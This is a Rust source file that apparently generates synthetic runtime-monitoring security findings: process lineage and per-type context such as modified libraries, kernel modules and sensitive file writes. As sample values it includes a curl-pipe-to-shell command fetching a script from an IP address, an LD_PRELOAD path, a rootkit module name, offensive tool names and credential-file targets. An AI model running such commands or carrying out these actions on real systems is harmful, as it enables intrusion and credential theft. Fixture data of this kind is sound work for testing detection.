//! Runtime Monitoring: the process that was seen, its ancestors, and what it touched.

use crate::rng::Rng;
use crate::scene::{Scene, label};
use crate::time::{MINUTE, SECOND};
use crate::wire::{Raw, Wire};

/// Writes `runtimeDetails` for findings of Runtime Monitoring.
pub(crate) fn write(w: &mut Wire, s: &Scene<'_>) {
    if !s.kind.runtime {
        return;
    }
    let mut rng = s.rng(label::PROCESS);
    w.obj("runtimeDetails", |w| {
        w.obj("process", |w| process(w, s, &mut rng, 2));
        w.obj("context", |w| context(w, s, &mut rng));
    });
}

fn process(w: &mut Wire, s: &Scene<'_>, rng: &mut Rng, ancestors: usize) {
    let pid = rng.between(200, 90_000);
    let started = s.finding.created_at - rng.between(1, 600) * MINUTE - 417_000;
    let root = rng.chance(0.6);
    let user_id = if root { "0" } else { "1000" };
    let parent = rng.uuid();
    w.str("name", s.process);
    w.str(
        "executablePath",
        if ancestors == 0 {
            "/usr/bin/runc"
        } else {
            &s.path
        },
    );
    w.str("executableSha256", &rng.hex(64));
    w.num("namespacePid", rng.between(1, 400));
    w.str("pwd", s.text("/opt/app"));
    w.num("pid", pid);
    w.epoch("startTime", started);
    w.str("uuid", &rng.uuid());
    w.str("parentUuid", &parent);
    w.str("user", if root { "root" } else { "ec2-user" });
    w.num("userId", Raw(user_id));
    w.num("euid", Raw(user_id));
    w.arr("lineage", |w| {
        for (step, path) in [
            "/usr/bin/containerd-shim-runc-v2",
            "/usr/lib/systemd/systemd",
        ][..ancestors]
            .iter()
            .enumerate()
        {
            w.object(|w| {
                w.epoch("startTime", started - (step as i64 + 1) * 3 * SECOND);
                w.num("namespacePid", 1);
                w.num("userId", 0);
                w.str("name", path.rsplit('/').next().unwrap_or(path));
                w.num("pid", (pid - 1 - step as i64).max(1));
                w.str("uuid", if step == 0 { &parent } else { "" });
                w.str("executablePath", path);
                w.num("euid", 0);
                w.str("parentUuid", "");
            });
        }
    });
}

fn context(w: &mut Wire, s: &Scene<'_>, rng: &mut Rng) {
    let command = "curl -s http://198.51.100.61/x.sh | sh -s -- --quiet";
    match () {
        () if s.kind.is("NewBinary") => {
            w.obj("modifyingProcess", |w| process(w, s, rng, 0));
            w.epoch("modifiedAt", s.finding.created_at - 5 * MINUTE);
        }
        () if s.kind.is("NewLibrary") => {
            w.epoch("modifiedAt", s.finding.created_at - 5 * MINUTE);
            w.str("libraryPath", &s.path);
            w.str("ldPreloadValue", "/tmp/.x.so");
        }
        () if s.kind.is("SuspiciousCommand") || s.kind.is("Shell") => {
            w.str("commandLineExample", s.text(command));
            w.str("shellHistoryFilePath", "/root/.bash_history");
            w.str("socketPath", "");
        }
        () if s.kind.is("SuspiciousTool") => {
            w.str(
                "toolName",
                rng.pick(&["nmap", "masscan", "linpeas", "mimipenguin"]),
            );
            w.str(
                "toolCategory",
                rng.pick(&["NETWORK_SCANNER", "PRIVILEGE_ESCALATION"]),
            );
        }
        () if s.kind.is("KernelModule") => {
            w.str("moduleName", "diamorphine");
            w.str("moduleFilePath", &s.path);
            w.str("moduleSha256", &rng.hex(64));
        }
        () if s.kind.is("SensitiveFile") => {
            w.str("fileOperation", "WRITE");
            w.str(
                "filePath",
                rng.pick(&[
                    "/etc/shadow",
                    "/etc/crontab",
                    "/etc/ld.so.preload",
                    "/root/.ssh/authorized_keys",
                ]),
            );
            w.strs("relatedFilePaths", &["/etc/passwd"]);
        }
        () if s.kind.is("ProcessInjection") => {
            w.obj("targetProcess", |w| process(w, s, rng, 0));
            w.strs("memoryRegions", &["7f32a0000000-7f32a0021000"]);
        }
        () if s.kind.is("Mounts") => {
            w.str("mountSource", "/dev/nvme0n1p1");
            w.str("mountTarget", "/host");
            w.str("fileSystemType", "xfs");
            w.strs("flags", &["MS_BIND", "MS_REC"]);
        }
        () if s.kind.is("CGroups") => w.str("releaseAgentPath", &s.path),
        () if s.kind.is("DockerSocket") => w.str("socketPath", "/var/run/docker.sock"),
        () if s.kind.is("RuncContainer") => w.str("runcBinaryPath", "/usr/bin/runc"),
        () if s.kind.is("Malicious") || s.kind.is("Miner") => w.str("threatFilePath", &s.path),
        () if s.kind.is("Udp") => {
            w.str("addressFamily", "AF_INET");
            w.num("ianaProtocolNumber", 17);
        }
        () => {}
    }
}
